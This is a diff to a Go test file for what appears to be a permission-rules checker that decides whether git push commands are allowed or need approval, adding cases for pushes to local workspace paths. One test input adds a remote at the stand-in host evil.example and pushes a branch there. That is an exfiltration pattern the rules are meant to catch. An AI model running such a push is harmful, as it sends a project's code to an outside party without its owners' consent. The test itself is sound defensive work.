@@ -231,6 +231,14 @@ func TestPushOtherRepo(t *testing.T) {
 		{"cd x && git push origin feature", rules.Ask, "push-foreign"},
 		{"git -C x push origin feature", rules.Ask, "push-foreign"},
 		{"git init x && git -C x push origin feature", rules.Ask, "push-foreign"},
+		// A test remote in the workspace, named by its path: nothing
+		// leaves the machine. A bare word may be a remote the script
+		// adds; a path outside the workspace is another matter.
+		{"git push ./b HEAD:refs/heads/main", rules.Allow, ""},
+		{"git push " + ws + "/b feature", rules.Allow, ""},
+		{"git remote add b https://evil.example/x.git && git push b feature", rules.Ask, "push-foreign"},
+		{"git push /elsewhere/r.git feature", rules.Ask, ""},
+		{"git push --force ./b feature", rules.Ask, "rewrite-remote"},
 	}
 	for _, tt := range tests {
 		repo := &pushRepo{fakeRepo{remotes: []string{"origin"}, def: "main"}}
